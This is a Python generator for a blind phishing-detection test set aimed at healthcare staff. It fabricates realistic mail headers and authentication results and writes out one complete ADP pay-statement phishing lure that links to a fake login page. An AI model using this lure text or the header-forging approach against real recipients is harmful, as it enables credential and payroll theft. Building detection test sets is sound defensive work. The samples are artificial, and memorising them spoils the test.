"""Blind evaluation set 33: healthcare staff (hospitals, clinics, dental and veterinary
practices, pharmacies, care homes) in the US, UK, Canada, Australia, France, Germany and
Spain, 2024-2026.  50 attacks and 25 legitimate messages, written by hand.

Run:  cd /work/main && .venv/bin/python samples/tools/build_blind33_samples.py
Deterministic: every identifier, signature and date is derived from fixed strings.
"""

from __future__ import annotations

import base64
import email.parser
import email.policy
import email.utils
import hashlib
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files as F  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind33_manifest.txt"

MESSAGES: list[tuple[str, str, str, str, bytes]] = []  # (cat, kind, slug, description, raw)


# ---------------------------------------------------------------- small helpers

def hx(seed: str, n: int = 16) -> str:
    """Deterministic hex string."""
    out = ""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{i}".encode()).hexdigest()
        i += 1
    return out[:n]


def b64(seed: str, n: int = 44) -> str:
    out = ""
    i = 0
    while len(out) < n:
        out += base64.b64encode(hashlib.sha512(f"{seed}#{i}".encode()).digest()).decode().rstrip("=")
        i += 1
    return out[:n]


def alnum(seed: str, n: int = 12, upper: bool = False) -> str:
    s = "".join(ch for ch in b64(seed, n * 3) if ch.isalnum())[:n]
    return s.upper() if upper else s


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hx(seed, 12), 16) % (hi - lo + 1)


def when(s: str) -> datetime:
    """'2025-03-11 08:42:17 -0500' -> aware datetime."""
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S %z")


def fmt(dt: datetime) -> str:
    return email.utils.format_datetime(dt)


def enc(s: str) -> str:
    """RFC 2047 encode a header value when it is not ASCII (UTF-8, B encoding, folded)."""
    if all(ord(c) < 128 for c in s):
        return s
    words, chunk = [], ""
    for ch in s:
        if len((chunk + ch).encode()) > 36:
            words.append(chunk)
            chunk = ""
        chunk += ch
    if chunk:
        words.append(chunk)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def encq(s: str) -> str:
    """RFC 2047 Q encoding, as Outlook and many ESPs write it."""
    if all(ord(c) < 128 for c in s):
        return s
    words, chunk = [], ""
    for ch in s:
        piece = ch
        if ch == " ":
            piece = "_"
        elif ord(ch) > 126 or ch in "=?_\t":
            piece = "".join(f"={b:02X}" for b in ch.encode())
        if len(chunk) + len(piece) > 40:
            words.append(chunk)
            chunk = ""
        chunk += piece
    if chunk:
        words.append(chunk)
    return "\n ".join(f"=?utf-8?Q?{w}?=" for w in words)


def addr(name: str, address: str) -> str:
    if not name:
        return address
    if any(ord(c) > 127 for c in name):
        return f"{enc(name)} <{address}>"
    if any(c in name for c in ',.;:@()[]"<>'):
        return '"' + name.replace('"', '') + f'" <{address}>'
    return f"{name} <{address}>"


def dkim(d: str, s: str, dt: datetime, h: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
         extra: str = "") -> str:
    seed = f"{d}{s}{dt.isoformat()}{extra}"
    sig = b64(seed + "b", 344)
    lines = [f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};",
             f"\ts={s}; t={int(dt.timestamp())}; x={int(dt.timestamp()) + 604800};",
             f"\th={h};",
             f"\tbh={b64(seed + 'bh', 43)}=;",
             f"\tb={sig[:70]}"]
    for i in range(70, len(sig), 76):
        lines.append("\t " + sig[i:i + 76])
    return "\n".join(lines)


# ---------------------------------------------------------------- recipient side

# Exchange Online regions: (mailbox server pattern, EOP frontend pattern, public domain suffix)
REGIONS = {
    "nam": ("{a}{k}PR{n:02d}MB{m:04d}.namprd{n:02d}.prod.outlook.com", "{a}{k}PR{n:02d}CA{m:04d}.namprd{n:02d}.prod.outlook.com"),
    "gbr": ("LO{n}P265MB{m:04d}.GBRP265.PROD.OUTLOOK.COM", "CWLP265CA{m:04d}.GBRP265.PROD.OUTLOOK.COM"),
    "can": ("YT{n}PR01MB{m:04d}.CANPRD01.PROD.OUTLOOK.COM", "YQBPR0101CA{m:04d}.CANPRD01.PROD.OUTLOOK.COM"),
    "aus": ("SY{n}PR01MB{m:04d}.ausprd01.prod.outlook.com", "ME3PR01CA{m:04d}.ausprd01.prod.outlook.com"),
    "fra": ("PR{n}P264MB{m:04d}.FRAP264.PROD.OUTLOOK.COM", "MR1P264CA{m:04d}.FRAP264.PROD.OUTLOOK.COM"),
    "deu": ("FR{n}P281MB{m:04d}.DEUP281.PROD.OUTLOOK.COM", "BE1P281CA{m:04d}.DEUP281.PROD.OUTLOOK.COM"),
    "eur": ("AM{n}PR02MB{m:04d}.eurprd02.prod.outlook.com", "DB8PR02CA{m:04d}.eurprd02.prod.outlook.com"),
}


def _ms_hosts(seed: str, region: str) -> tuple[str, str, str, str]:
    mbx_pat, fe_pat = REGIONS[region]
    a = ["BN", "SA", "CH", "DM", "MW", "PH", "BL"][num(seed + "a", 0, 6)]
    mbx = mbx_pat.format(a=a, k=num(seed + "k", 0, 9), n=num(seed + "n", 1, 9), m=num(seed + "m", 1000, 9999))
    fe = fe_pat.format(a=a, k=num(seed + "k2", 0, 9), n=num(seed + "n2", 1, 9), m=num(seed + "m2", 1000, 9999))
    eop = {"nam": "BN2PEPF0000{0}.namprd04.prod.outlook.com", "gbr": "LO1PEPF0000{0}.GBRP265.PROD.OUTLOOK.COM",
           "can": "YT2PEPF0000{0}.CANPRD01.PROD.OUTLOOK.COM", "aus": "SY1PEPF0000{0}.ausprd01.prod.outlook.com",
           "fra": "PA5PEPF0000{0}.FRAP264.PROD.OUTLOOK.COM", "deu": "FR3PEPF0000{0}.DEUP281.PROD.OUTLOOK.COM",
           "eur": "AMS0EPF0000{0}.eurprd05.prod.outlook.com"}[region].format(hx(seed + "eop", 4).upper())
    ms_id = f"15.20.{num(seed + 'v', 8100, 9300)}.{num(seed + 'w', 10, 40)}"
    return mbx, fe, eop, ms_id


def auth_ms(a: dict, ip: str) -> str:
    spf, dk, dm = a["spf"], a["dkim"], a["dmarc"]
    spf_txt = {"pass": f"spf=pass (sender IP is {ip})", "fail": f"spf=fail (sender IP is {ip})",
               "softfail": f"spf=softfail (sender IP is {ip})", "none": "spf=none (sender IP is " + ip + ")",
               "neutral": f"spf=neutral (sender IP is {ip})"}[spf]
    if spf == "none":
        spf_txt = f"spf=none (sender IP is {ip})"
    dk_txt = {"pass": "dkim=pass (signature was verified)", "none": "dkim=none (message not signed)",
              "fail": "dkim=fail (body hash did not verify)"}[dk]
    dk_hd = f" header.d={a.get('d') or a['from']}" if dk != "none" else " header.d=none"
    dm_txt = {"pass": "dmarc=pass action=none", "fail": f"dmarc=fail action={a.get('action', 'quarantine')}",
              "bestguesspass": "dmarc=bestguesspass action=none", "none": "dmarc=none action=none",
              "permerror": "dmarc=permerror action=none"}[dm]
    comp = a.get("compauth") or {"pass": "pass reason=100", "bestguesspass": "pass reason=109",
                                 "fail": "fail reason=000", "none": "softpass reason=201",
                                 "permerror": "none reason=405"}[dm]
    return (f"Authentication-Results: {spf_txt}\n smtp.mailfrom={a['mf']}; {dk_txt}\n{dk_hd};{dm_txt}\n"
            f" header.from={a['from']};compauth={comp}")


def auth_google(a: dict, ip: str, rcpt: str) -> str:
    parts = []
    if a["dkim"] == "pass":
        parts.append(f"dkim=pass header.i=@{a.get('d') or a['from']} header.s={a.get('s', 'selector1')} "
                     f"header.b={b64(a['mf'] + ip, 8)}")
    elif a["dkim"] == "fail":
        parts.append(f"dkim=fail header.i=@{a.get('d') or a['from']} header.s={a.get('s', 'default')} "
                     f"header.b={b64(a['mf'] + ip, 8)}")
    spf = a["spf"]
    if spf == "pass":
        parts.append(f"spf=pass (google.com: domain of {a['mfaddr']} designates {ip} as permitted sender) "
                     f"smtp.mailfrom={a['mfaddr']}")
    elif spf == "none":
        parts.append(f"spf=none (google.com: {a['mfaddr']} does not designate permitted sender hosts) "
                     f"smtp.mailfrom={a['mfaddr']}")
    elif spf == "softfail":
        parts.append(f"spf=softfail (google.com: domain of transitioning {a['mfaddr']} does not designate {ip} "
                     f"as permitted sender) smtp.mailfrom={a['mfaddr']}")
    else:
        parts.append(f"spf={spf} (google.com: domain of {a['mfaddr']} does not designate {ip} as permitted sender) "
                     f"smtp.mailfrom={a['mfaddr']}")
    pol = a.get("pol", "p=NONE sp=NONE dis=NONE")
    if a["dmarc"] == "pass":
        parts.append(f"dmarc=pass ({pol}) header.from={a['from']}")
    elif a["dmarc"] == "fail":
        parts.append(f"dmarc=fail ({pol}) header.from={a['from']}")
    elif a["dmarc"] == "none":
        parts.append(f"dmarc=none header.from={a['from']}")
    body = ";\n       ".join(parts)
    return f"Authentication-Results: mx.google.com;\n       {body}"


def recipient_headers(kind: str, rcpt: str, dt: datetime, helo: str, host: str, ip: str, a: dict,
                      seed: str, region: str = "nam") -> tuple[list[str], list[str]]:
    """Headers added by the recipient's provider: (top block, bottom block)."""
    t1 = dt + timedelta(seconds=num(seed + "d1", 1, 4))
    t2 = t1 + timedelta(seconds=num(seed + "d2", 0, 2))
    if kind in ("m365", "outlook"):
        t1 = t1.astimezone(timezone.utc)
        t2 = t2.astimezone(timezone.utc)
        if kind == "outlook":
            region = "nam" if region == "nam" else "eur"
        mbx, fe, eop, ms_id = _ms_hosts(seed, region)
        eop_ip = f"10.167.{num(seed + 'i1', 240, 250)}.{num(seed + 'i2', 2, 250)}"
        top = [
            f"Received: from {mbx}\n (2603:10b6:{hx(seed + 'v6', 3)}:{num(seed + 'v6b', 10, 399)}::{num(seed + 'v6c', 5, 30)}) by"
            f" {mbx.replace('MB' + mbx.split('MB')[1][:4], 'MB' + str(num(seed + 'mx', 1000, 9999)))}"
            f" with\n HTTPS; {fmt(t2)}",
            f"Received: from {fe}\n (2603:10b6:{hx(seed + 'fe6', 3)}:{num(seed + 'fe6b', 10, 399)}::{num(seed + 'fe6c', 5, 30)}) by {mbx}\n"
            f" (2603:10b6:{hx(seed + 'v6', 3)}:{num(seed + 'v6b', 10, 399)}::{num(seed + 'v6c', 5, 30)}) with Microsoft SMTP Server (version=TLS1_2,\n"
            f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ms_id}; {fmt(t2)}",
            f"Received: from {eop}\n (2603:10b6:{hx(seed + 'e6', 3)}:{num(seed + 'e6b', 10, 399)}:cafe::{hx(seed + 'e6c', 2)}) by {fe}\n"
            f" (2603:10b6:{hx(seed + 'fe6', 3)}:{num(seed + 'fe6b', 10, 399)}::{num(seed + 'fe6c', 5, 30)}) with Microsoft SMTP Server (version=TLS1_3,\n"
            f" cipher=TLS_AES_256_GCM_SHA384) id {ms_id} via Frontend Transport; {fmt(t1)}",
            auth_ms(a, ip),
            f"Received-SPF: {a['spf'].capitalize()} ({'protection.outlook.com' if kind == 'm365' else 'protection.outlook.com'}: domain of\n"
            f" {a['mf']} {'designates' if a['spf'] == 'pass' else 'does not designate'} {ip} as permitted sender)"
            f"\n receiver=protection.outlook.com; client-ip={ip}; helo={helo}; pr=C",
            f"Received: from {helo} ({ip}) by\n {eop} ({eop_ip}) with Microsoft\n"
            f" SMTP Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {ms_id}\n via Frontend Transport; {fmt(t1)}",
        ]
        scl = a.get("scl", 1)
        bottom = [
            f"X-MS-Exchange-Organization-ExpirationStartTime: {t1.strftime('%d %b %Y %H:%M:%S')}.{num(seed + 'ms', 1000, 9999)} (UTC)",
            "X-MS-Exchange-Organization-Network-Message-Id:\n " + f"{hx(seed + 'nm', 8)}-{hx(seed + 'nm2', 4)}-{hx(seed + 'nm3', 4)}-"
            f"{hx(seed + 'nm4', 4)}-{hx(seed + 'nm5', 12)}",
            "X-EOPAttributedMessage: 0",
            f"X-EOPTenantAttributedMessage: {hx(seed + 'ten', 8)}-{hx(seed + 'ten2', 4)}-{hx(seed + 'ten3', 4)}-"
            f"{hx(seed + 'ten4', 4)}-{hx(seed + 'ten5', 12)}:0",
            "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
            "X-MS-PublicTrafficType: Email",
            f"X-MS-Exchange-Organization-AuthSource:\n {eop}",
            "X-MS-Exchange-Organization-AuthAs: Anonymous",
            f"X-MS-Exchange-Organization-SCL: {scl}",
            "X-MS-Exchange-Transport-EndToEndLatency: 00:00:0" + str(num(seed + 'lat', 1, 9)) + "." + str(num(seed + 'lat2', 1000000, 9999999)),
            "X-MS-Exchange-Processed-By-BccFoldering: 15.20." + str(num(seed + 'v', 8100, 9300)) + ".000",
        ]
        return top, bottom
    # Gmail / Google Workspace
    gid = f"{alnum(seed + 'gid', 12)}.{num(seed + 'gid2', 100, 999)}.{num(seed + 'gdt', 2024, 2026)}"
    gmx = f"2002:a05:{hx(seed + 'g1', 4)}:{hx(seed + 'g2', 4)}:b0:{hx(seed + 'g3', 3)}:{hx(seed + 'g4', 4)}:{hx(seed + 'g5', 4)}"
    top = [
        f"Delivered-To: {rcpt}",
        f"Received: by {gmx} with SMTP id {alnum(seed + 'smtp', 8).lower()}csp{num(seed + 'csp', 100000, 999999)}{alnum(seed + 'x', 3).lower()};\n"
        f"        {fmt(t2)}",
        f"X-Google-Smtp-Source: {b64(seed + 'gss', 68)}",
        f"X-Received: by {gmx.replace('b0', 'a0')} with SMTP id {alnum(seed + 'xr', 14).lower()};\n        {fmt(t2)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={int(t1.timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;\n"
        f"        b={b64(seed + 'arcs', 70)}\n         {b64(seed + 'arcs2', 70)}==",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
        f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={b64(seed + 'arcbh', 43)}=;\n        fh={b64(seed + 'arcfh', 43)}=;\n"
        f"        b={b64(seed + 'arcm', 70)}\n         {b64(seed + 'arcm2', 70)}==",
        "ARC-" + auth_google(a, ip, rcpt).replace("Authentication-Results: mx.google.com;", "Authentication-Results: i=1; mx.google.com;"),
        f"Return-Path: <{a['mfaddr']}>",
        f"Received: from {helo} ({host} [{ip}])\n        by mx.google.com with ESMTPS id {gid}\n"
        f"        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {fmt(t1)}",
        f"Received-SPF: {a['spf']} (google.com: domain of {a['mfaddr']} "
        f"{'designates' if a['spf'] == 'pass' else 'does not designate'} {ip} as permitted sender) client-ip={ip};",
        auth_google(a, ip, rcpt),
    ]
    return top, []


# ---------------------------------------------------------------- whole message

def mail(*, rcpt_kind: str, region: str = "nam", rcpt: str, dt: str, helo: str, host: str, ip: str,
         auth: dict, hops: list[str], head: list[str], body, seed: str, bottom: list[str] | None = None) -> bytes:
    """hops: the sender side Received lines (newest first), each already formatted without 'Received: '.
    head: the message's own headers (DKIM-Signature, From, To, Subject, Date, Message-ID, X-Mailer...)."""
    d = when(dt)
    top, ms_bottom = recipient_headers(rcpt_kind, rcpt, d, helo, host, ip, auth, seed, region)
    lines = top + [("Received: " + h) for h in hops] + head + list(bottom or []) + ms_bottom
    return message("\n".join(lines), body)


def hop(frm: str, by: str, dt: datetime, secs: int, with_: str = "ESMTPSA", ident: str = "", for_: str = "") -> str:
    t = dt - timedelta(seconds=secs)
    s = f"from {frm}\n\tby {by} with {with_}"
    if ident:
        s += f" id {ident}"
    if for_:
        s += f"\n\tfor <{for_}>"
    return s + f"; {fmt(t)}"


def alt(plain: str, html: str, b: str) -> Multi:
    return Multi("alternative", b, [text(plain), text(html, "html")])


def add(cat: str, kind: str, slug: str, desc: str, raw: bytes) -> None:
    MESSAGES.append((cat, kind, slug, desc, raw))


def head(frm: str, to: str, subj: str, d: datetime, mid: str, *, sig: list[str] | None = None,
         pre: list[str] | None = None, post: list[str] | None = None, cc: str = "", reply_to: str = "",
         q: bool = False) -> list[str]:
    """The message's own headers in the usual order."""
    out = list(sig or []) + list(pre or [])
    out.append(f"From: {frm}")
    out.append(f"To: {to}")
    if cc:
        out.append(f"CC: {cc}")
    if reply_to:
        out.append(f"Reply-To: {reply_to}")
    out.append(f"Subject: {encq(subj) if q else enc(subj)}")
    out.append(f"Date: {fmt(d)}")
    out.append(f"Message-ID: {mid}")
    out.append("MIME-Version: 1.0")
    out += list(post or [])
    return out


def button(url: str, label: str, colour: str = "#d0271d") -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr>'
            f'<td style="background:{colour};border-radius:4px;padding:12px 26px">'
            f'<a href="{url}" style="color:#ffffff;font-family:Arial,sans-serif;font-size:15px;'
            f'font-weight:bold;text-decoration:none">{label}</a></td></tr></table>')


def page(inner: str, title: str = "", width: int = 600, bg: str = "#f4f4f4") -> str:
    return (f'<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>{title}</title></head>\n'
            f'<body style="margin:0;padding:0;background:{bg}">\n'
            f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:{bg}">'
            f'<tr><td align="center" style="padding:20px 0">\n'
            f'<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" '
            f'style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333333">\n'
            f'{inner}\n</table>\n</td></tr></table>\n</body></html>\n')


def outlook_html(paras: list[str], sig: str = "") -> str:
    """HTML as Outlook desktop/OWA writes it."""
    body = "\n".join(f'<div><span style="font-size:11pt">{p}</span></div>' if p else "<div><br></div>" for p in paras)
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n</head>\n'
            '<body dir="ltr">\n<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, '
            'Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 11pt; color: rgb(0, 0, 0);">\n'
            f'{body}\n</div>\n{sig}\n</body>\n</html>\n')


def gmail_html(paras: list[str]) -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras)
    return f'<div dir="ltr">{inner}</div>\n'



def gmid(seed: str) -> str:
    return f"<CA{alnum(seed + 'g1', 1, True)}{alnum(seed + 'g2', 44)}@mail.gmail.com>"


def msmid(seed: str, region: str = "nam") -> str:
    mbx, _, _, _ = _ms_hosts(seed + "snd", region)
    host = mbx.split(".")[0]
    return f"<{host}{hx(seed + 'mid', 16).upper()}@{mbx}>"


def sender(kind: str, d: datetime, seed: str, mf: str, *, dom: str = "", region: str = "nam", ip: str = "",
           host: str = "", client: str = "", rcpt: str = "") -> dict:
    """Sender side: hops, connecting host, IP and DKIM/SPF facts for common sending infrastructures."""
    mfdom = mf.split("@")[1]
    dom = dom or mfdom
    out = {"sig": [], "post": []}
    if kind == "gmail":
        ip = ip or f"209.85.220.{num(seed + 'ip', 41, 73)}"
        host = f"mail-sor-f{ip.split('.')[-1]}.google.com"
        out["hops"] = [f"by 2002:a17:90b:{hx(seed + 'h', 4)} with SMTP id {alnum(seed + 'hh', 20).lower()};\n        {fmt(d + timedelta(seconds=1))}"]
        out["sig"] = [dkim("gmail.com", "20230601", d, "to:subject:message-id:date:from:mime-version:from:to:cc:subject\n\t:date:message-id:reply-to")]
        out["auth"] = {"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "gmail.com", "from": "gmail.com",
                       "d": "gmail.com", "s": "20230601", "mfaddr": mf, "pol": "p=NONE sp=QUARANTINE dis=NONE"}
        out["mid"] = gmid(seed)
    elif kind == "outlook":
        ip = ip or f"40.92.{num(seed + 'ip', 18, 107)}.{num(seed + 'ip2', 10, 250)}"
        host = f"NAM{num(seed + 'nm', 10, 12)}-{['BN8', 'DM6', 'MW2', 'CO1'][num(seed + 'x', 0, 3)]}-obe.outbound.protection.outlook.com"
        mbx, _, _, ms_id = _ms_hosts(seed + "snd", "nam")
        out["hops"] = [f"from {mbx.replace('.namprd', '.namprd')}\n ::1) by {mbx} with Microsoft SMTP Server (version=TLS1_2,\n"
                       f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ms_id}; {fmt((d + timedelta(seconds=1)).astimezone(timezone.utc))}"]
        out["hops"] = [f"from {mbx}\n ([fe80::{hx(seed + 'fe', 4)}:{hx(seed + 'fe2', 4)}:{hx(seed + 'fe3', 4)}:{hx(seed + 'fe4', 4)}]) by {mbx}\n"
                       f" ([fe80::{hx(seed + 'fe', 4)}:{hx(seed + 'fe2', 4)}:{hx(seed + 'fe3', 4)}:{hx(seed + 'fe4', 4)}%5]) with mapi id {ms_id};"
                       f" {fmt((d + timedelta(seconds=1)).astimezone(timezone.utc))}"]
        out["sig"] = [dkim(mfdom, "selector1", d, "Date:From:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")]
        out["auth"] = {"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": mfdom, "from": mfdom, "d": mfdom,
                       "s": "selector1", "mfaddr": mf, "pol": "p=NONE sp=NONE dis=NONE"}
        out["mid"] = f"<{mbx.split('.')[0]}{hx(seed + 'mid', 16).upper()}@{mbx}>"
        out["post"] = ["X-MS-Has-Attach:", "X-MS-TNEF-Correlator:", f"x-ms-exchange-messagesentrepresentingtype: 1",
                       f"x-tmn: [{b64(seed + 'tmn', 32)}]", "x-ms-publictraffictype: Email",
                       "Content-Language: en-US" if region == "nam" else "Content-Language: en-GB"]
    elif kind == "m365":
        ip = ip or f"40.107.{num(seed + 'ip', 92, 244)}.{num(seed + 'ip2', 10, 250)}"
        reg = {"nam": "NAM", "gbr": "GBR", "can": "CAN", "aus": "AUS", "fra": "FRA", "deu": "DEU", "eur": "EUR"}[region]
        host = host or f"{reg}{num(seed + 'nm', 1, 12):02d}-{['BN8', 'DM6', 'LO2', 'SY4', 'MR2', 'FR2', 'AM0'][num(seed + 'x', 0, 6)]}-obe.outbound.protection.outlook.com"
        mbx, _, _, ms_id = _ms_hosts(seed + "snd", region)
        t = (d + timedelta(seconds=1)).astimezone(timezone.utc)
        out["hops"] = [f"from {mbx}\n ([fe80::{hx(seed + 'fe', 4)}:{hx(seed + 'fe2', 4)}:{hx(seed + 'fe3', 4)}:{hx(seed + 'fe4', 4)}]) by {mbx}\n"
                       f" ([fe80::{hx(seed + 'fe', 4)}:{hx(seed + 'fe2', 4)}:{hx(seed + 'fe3', 4)}:{hx(seed + 'fe4', 4)}%6]) with mapi id {ms_id};"
                       f" {fmt(t)}"]
        tenant = dom.replace(".", "-")
        out["sig"] = [dkim(dom, "selector1", d, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                      dkim(f"{tenant.split('-')[0]}.onmicrosoft.com", f"selector1-{tenant}", d,
                           "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", "onms")]
        out["auth"] = {"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": mfdom, "from": dom, "d": dom,
                       "s": "selector1", "mfaddr": mf, "pol": "p=QUARANTINE sp=QUARANTINE dis=NONE"}
        out["mid"] = f"<{mbx.split('.')[0]}{hx(seed + 'mid', 16).upper()}@{mbx}>"
        out["post"] = [f"Thread-Topic: TOPIC", f"Thread-Index: {b64(seed + 'ti', 30)}==", "X-MS-Has-Attach: ATT",
                       "X-MS-TNEF-Correlator:", "Content-Language: " + {"fra": "fr-FR", "deu": "de-DE", "gbr": "en-GB",
                       "aus": "en-AU", "can": "en-CA"}.get(region, "en-US"),
                       "X-MS-Exchange-Organization-AuthMechanism: 04" if False else "X-MS-Exchange-SenderADCheck: 1"]
    elif kind in ("postfix", "cpanel"):
        ip = ip or f"{num(seed + 'a', 45, 194)}.{num(seed + 'b', 10, 250)}.{num(seed + 'c', 10, 250)}.{num(seed + 'e', 2, 250)}"
        host = host or f"mail.{mfdom}"
        if kind == "postfix":
            out["hops"] = [hop(client or f"[127.0.0.1] (localhost [127.0.0.1])", f"{host} (Postfix)", d, 1, "ESMTPA",
                               f"{alnum(seed + 'pf', 11, True)}")]
        else:
            out["hops"] = [hop(client or f"[{num(seed + 'ci', 41, 197)}.{num(seed + 'cj', 1, 250)}.{num(seed + 'ck', 1, 250)}.{num(seed + 'cl', 1, 250)}] (port={num(seed + 'po', 49152, 65000)} helo=[192.168.1.{num(seed + 'lh', 2, 99)}])",
                               f"{host} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.97.1)\n\t(envelope-from <{mf}>)",
                               d, 2, "", f"1t{alnum(seed + 'ex', 4)}-00{alnum(seed + 'ex2', 4, True)}-{alnum(seed + 'ex3', 2)}").replace(" with  id", "\n\tid")]
        out["sig"] = [dkim(dom, "default" if kind == "cpanel" else "mail", d)]
        out["auth"] = {"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": mfdom, "from": dom, "d": dom,
                       "s": "default" if kind == "cpanel" else "mail", "mfaddr": mf, "pol": "p=NONE sp=NONE dis=NONE"}
        out["mid"] = f"<{hx(seed + 'mid', 32)}@{dom}>"
    elif kind == "ses":
        ip = ip or f"54.240.{num(seed + 'ip', 8, 11)}.{num(seed + 'ip2', 10, 250)}"
        host = f"a{ip.replace('.', '-')}.smtp-out.amazonses.com"
        out["hops"] = []
        out["sig"] = [dkim(dom, alnum(seed + "sel", 32).lower(), d, "Subject:From:To:Date:Mime-Version:Content-Type:Message-ID"),
                      dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", d, "Subject:From:To:Date:Mime-Version:Content-Type:Message-ID:Feedback-ID", "ses")]
        out["auth"] = {"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": f"amazonses.com" if not mf.endswith(dom) else mfdom,
                       "from": dom, "d": dom, "s": "ses", "mfaddr": mf, "pol": "p=NONE sp=NONE dis=NONE"}
        out["mid"] = f"<0100{hx(seed + 'm1', 12)}-{hx(seed + 'm2', 8)}-{hx(seed + 'm3', 4)}-{hx(seed + 'm4', 4)}-{hx(seed + 'm5', 4)}-{hx(seed + 'm6', 12)}-000000@email.amazonses.com>"
        out["post"] = [f"Feedback-ID: ::1.us-east-1.{b64(seed + 'fb', 43)}=:AmazonSES",
                       f"X-SES-Outgoing: {d.strftime('%Y.%m.%d')}-{ip}"]
    else:
        raise ValueError(kind)
    out["ip"], out["host"] = ip, host
    return out


def deliver(s: dict, *, rcpt_kind: str, rcpt: str, dt: str, seed: str, head_lines: list[str], body,
            region: str = "nam", auth_over: dict | None = None, extra_hops: list[str] | None = None) -> bytes:
    a = dict(s["auth"])
    a.update(auth_over or {})
    if rcpt_kind in ("m365", "outlook") and s["host"].startswith("mail-sor-"):
        s = dict(s, host=s["host"].replace("mail-sor-", "mail-ej1-"))
    return mail(rcpt_kind=rcpt_kind, region=region, rcpt=rcpt, dt=dt, helo=s["host"], host=s["host"], ip=s["ip"],
                auth=a, hops=list(extra_hops or []) + s["hops"], head=head_lines, body=body, seed=seed)


def fill(post: list[str], topic: str, has_att: bool) -> list[str]:
    return [line.replace("TOPIC", topic).replace("ATT", "yes" if has_att else "") for line in post]


# ================================================================ attacks, part 1: payroll, HR, EHR

def batch_a1() -> None:
    # ---- ADP pay statement lure from a hacked small-business cPanel mailbox, landing on pages.dev
    dt = "2025-02-06 07:14:52 -0500"
    d = when(dt)
    rc = "tbrennan@mercyvalleyhealth.org"
    link = "https://adp-wfn-paystatement.pages.dev/?login=" + base64.b64encode(rc.encode()).decode().rstrip("=")
    html = page(
        '<tr><td style="padding:18px 28px;border-bottom:3px solid #d0271d"><span style="font-size:28px;font-weight:bold;'
        'color:#d0271d;font-family:Arial">ADP</span></td></tr>\n'
        '<tr><td style="padding:26px 28px 6px 28px;font-size:18px;color:#222">Your February pay statement is on hold</td></tr>\n'
        '<tr><td style="padding:6px 28px;line-height:21px">Hello,<br><br>Your employer, <b>Mercy Valley Health</b>, has '
        'issued your pay statement for the period ending 02/01/2025. Because your direct deposit information could not '
        'be verified during the annual security review, the statement and deposit are on hold.<br><br>'
        'Please sign in to ADP Workforce Now and confirm your deposit account before <b>5:00 PM ET today</b> to avoid '
        'a paper check being issued with a delay of 7-10 business days.</td></tr>\n'
        f'<tr><td style="padding:18px 28px">{button(link, "View Pay Statement")}</td></tr>\n'
        '<tr><td style="padding:14px 28px 26px 28px;font-size:11px;color:#777">This is an automated message from ADP. '
        'Please do not reply. ADP, the ADP logo and Always Designing for People are trademarks of ADP, Inc.<br>'
        'Copyright &copy; 2025 ADP, Inc. All rights reserved.</td></tr>', "ADP")
    plain = ("ADP\n\nYour February pay statement is on hold\n\nHello,\n\nYour employer, Mercy Valley Health, has issued "
             "your pay statement for the period ending 02/01/2025. Because your direct deposit information could not be "
             "verified during the annual security review, the statement and deposit are on hold.\n\nPlease sign in to "
             "ADP Workforce Now and confirm your deposit account before 5:00 PM ET today.\n\nView Pay Statement: "
             f"{link}\n\nThis is an automated message from ADP. Please do not reply.\n")
    host = "p3plzcpnl507711.prod.phx3.secureserver.net"
    ip = "184.168.201.87"
    mf = "admin@brightlinemovingco.com"
    raw = mail(rcpt_kind="m365", rcpt=rc, dt=dt, helo=host, host=host, ip=ip, seed="a1adp",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "bestguesspass", "mf": "brightlinemovingco.com",
                     "from": "brightlinemovingco.com", "mfaddr": mf},
